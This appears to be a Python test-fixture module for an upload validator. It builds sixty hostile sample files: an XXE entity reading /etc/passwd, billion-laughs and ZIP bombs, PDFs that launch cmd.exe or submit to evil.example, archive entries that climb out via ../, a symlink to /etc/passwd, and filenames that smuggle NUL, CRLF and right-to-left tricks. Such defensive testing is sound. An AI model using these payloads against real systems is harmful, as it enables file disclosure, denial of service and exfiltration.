"""Sixty files that somebody may upload in the hope that something opens, unpacks, runs or shows them.

Each is a name, the bytes, and what is said of it: a reason of app/files/measuring.py, or None where it is taken and
then only ever handed over, sealed.
"""

from __future__ import annotations

import struct
import warnings
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import pikepdf

from app.files.measuring import MOST_BYTES
from tests.files.test_measuring import OPEN_TEXT, WORD, archive, jpeg_of, many, saying
from tests.pdf import sheets

HTML = b"<!doctype html><script>ran(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="ran(1)"/>'
XML = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY a "ha">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9))
    + b"]><a>&j;</a>"
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"  # eicar.org: every scanner knows it
PDF = b"%PDF-1.7\n"
OTHER, FALSE, HURT, LARGE, POINTS = "other_kind", "not_what_it_says", "damaged", "unpacks_too_large", "too_many_points"


def pdf(change) -> bytes:
    return sheets.changed(sheets.plain(), change)


def deep(made: pikepdf.Pdf) -> None:
    """A tree of pages a thousand deep."""
    here = made.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Kids=pikepdf.Array([]), Count=0))
    for _level in range(1_000):
        kids = pikepdf.Array([here])
        here = made.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Kids=kids, Count=0))
    made.Root.Pages.Kids.append(here)


def embedding(made: pikepdf.Pdf) -> None:
    made.attachments["a.html"] = HTML


def acting(action: pikepdf.Dictionary):
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = action

    return change


def script() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def circling(made: pikepdf.Pdf) -> None:
    """An outline whose next entry is itself."""
    entry = made.make_indirect(pikepdf.Dictionary(Title="a"))
    entry.Next = entry.First = entry
    made.Root.Outlines = made.make_indirect(pikepdf.Dictionary(First=entry, Last=entry, Count=9))


def sending() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")


def remote() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=r"\\evil.example\a")


def png_with(kind: bytes, data: bytes) -> bytes:
    """A sound PNG with one chunk more behind its first."""
    whole = sheets.png_of(8, 8)
    return (
        whole[:33]
        + struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data))
        + whole[33:]
    )


def named(names: list[str], packed: int = ZIP_DEFLATED) -> bytes:
    """A document that has parts of these names as well."""
    return archive(WORD | dict.fromkeys(names, b"x"), packed)


def twice() -> bytes:
    """A document that has one part two times, of which readers take one or the other."""
    written = BytesIO()
    with ZipFile(written, "w") as held:
        for name, content in WORD.items():
            held.writestr(name, content)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # of a name that is there already
            held.writestr("word/document.xml", HTML)
    return written.getvalue()


def linked() -> bytes:
    """A document with a symbolic link out of it."""
    written = BytesIO()
    with ZipFile(written, "w") as held:
        for name, content in WORD.items():
            held.writestr(name, content)
        link = ZipInfo("word/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        held.writestr(link, "/etc/passwd")
    return written.getvalue()


def locked() -> bytes:
    """An archive that says it is encrypted (APPNOTE 4.4.4)."""
    content = bytearray(archive(OPEN_TEXT, ZIP_STORED))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := content.find(mark, at + 1)) >= 0:
            content[at + place] |= 1
    return bytes(content)


def bomb(size: int) -> bytes:
    return archive(WORD | {"word/media/a.png": bytes(size)})


def nested(depth: int) -> bytes:
    content = bomb(1_000_000)
    for _level in range(depth):
        content = archive(WORD | {"word/embeddings/a.docx": content})
    return content


HOSTILE = {
    # what is no kind of ours, whatever it is called
    "a page": ("a.html", HTML, OTHER),
    "a page in capitals": ("A.HTM", HTML, OTHER),
    "XHTML": ("a.xhtml", HTML, OTHER),
    "a drawing": ("a.svg", SVG, OTHER),
    "XML": ("a.xml", XML, OTHER),
    "a script": ("a.js", b"ran(1)", OTHER),
    "a program": ("a.exe", b"MZ", OTHER),
    "a link of Windows": ("a.lnk", b"L\0\0\0", OTHER),
    "an archive": ("a.zip", named([]), OTHER),
    "two endings": ("a.pdf.html", PDF, OTHER),
    "an ending behind a NUL": ("a.html\0.pdf.html", PDF, OTHER),
    "an ending of a stream": ("a.pdf::$DATA", PDF, OTHER),
    "an ending with a dot": ("a.pdf.", PDF, OTHER),
    "no ending": ("pdf", PDF, OTHER),
    "macros": ("a.docm", named([]), OTHER),
    "mail": ("a.eml", b"From: x", OTHER),
    "EICAR by its name": ("eicar.com", EICAR, OTHER),
    # what is not what its name says
    "a page as a PDF": ("a.pdf", HTML, FALSE),
    "a page before a PDF": ("a.pdf", HTML + PDF, FALSE),
    "a drawing as an image": ("a.png", SVG, FALSE),
    "XML as a document": ("a.docx", XML, FALSE),
    "laughs as a sheet": ("a.xlsx", LAUGHS, FALSE),
    "a program as an image": ("a.jpg", b"MZ\x90", FALSE),
    "EICAR as a PDF": ("eicar.pdf", EICAR, FALSE),
    "nothing as a PDF": ("a.pdf", b"", FALSE),
    "a sheet as a document": ("a.docx", archive({"[Content_Types].xml": b"", "xl/workbook.xml": b""}), FALSE),
    "a JAR as a document": ("a.docx", archive({"META-INF/MANIFEST.MF": b"", "A.class": b""}), FALSE),
    "a page as an ODT": ("a.odt", archive({"mimetype": b"text/html", "content.xml": HTML}), FALSE),
    "a long type as an ODT": ("a.odt", archive({"mimetype": b"x" * 999}), FALSE),
    "a PDF behind spaces": ("a.pdf", b" " * 99 + PDF, FALSE),
    # what is more than it seems
    "a bomb of one part": ("a.docx", bomb(40_000_000), LARGE),
    "a bomb of entries": ("a.docx", archive(WORD | many(2_001), ZIP_STORED), LARGE),
    "a bomb of all parts": ("a.docx", saying(1_900_000, archive(WORD | many(160))), LARGE),
    "a part that says four gigabytes": ("a.docx", saying(2**32 - 2, archive(WORD)), LARGE),
    "a bomb as an ODS": (
        "a.ods",
        archive({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "c": bytes(30_000_000)}),
        LARGE,
    ),
    "fifty million points and one": ("a.png", sheets.png_of(10_000, 5_001), POINTS),
    "a wide image": ("a.png", sheets.png_of(2**31 - 1, 1), POINTS),
    "a JPEG of two sizes": ("a.jpg", jpeg_of(65_535, 65_535), POINTS),
    "too large a file": ("a.pdf", PDF + bytes(MOST_BYTES), "too_large"),
    # what is broken
    "an archive cut off": ("a.docx", archive(WORD)[:-40], HURT),
    "half an archive": ("a.docx", b"PK\x03\x04" + b"x" * 99, HURT),
    "an archive that is locked": ("a.odt", locked(), HURT),
    "a PNG without a size": ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(30), HURT),
    "a JPEG without end": ("a.jpeg", b"\xff\xd8\xff" + b"\xff" * 999, HURT),
    "an image of no width": ("a.png", sheets.png_of(0, 9), HURT),
    # what is taken, and never more than handed over
    "a PDF that is a page too": ("a.pdf", PDF + HTML, None),
    "a PDF with a script": ("a.pdf", pdf(acting(script())), None),
    "a PDF that launches": ("a.pdf", pdf(acting(launch())), None),
    "a PDF that sends": ("a.pdf", pdf(acting(sending())), None),
    "a PDF that leads to a share": ("a.pdf", pdf(acting(remote())), None),
    "a PDF that holds a page": ("a.pdf", pdf(embedding), None),
    "a PDF a thousand deep": ("a.pdf", pdf(deep), None),
    "a PDF in a circle": ("a.pdf", pdf(circling), None),
    "a PDF that unpacks large": ("a.pdf", sheets.unpacking_large(), None),
    "a locked PDF": ("a.pdf", sheets.encrypted(), None),
    "an image that is a page": ("a.png", png_with(b"tEXt", b"a\0" + HTML), None),
    "parts that climb out": (
        "../../a\r\nX: y\u202e.docx",
        named(["../../etc/cron.d/a", "/etc/passwd", "C:\\a", "con"]),
        None,
    ),
    "one part twice": ("a.docx", twice(), None),
    "a link out of it": ("a.docx", linked(), None),
    "documents in documents": ("a.docx", nested(6), None),
}
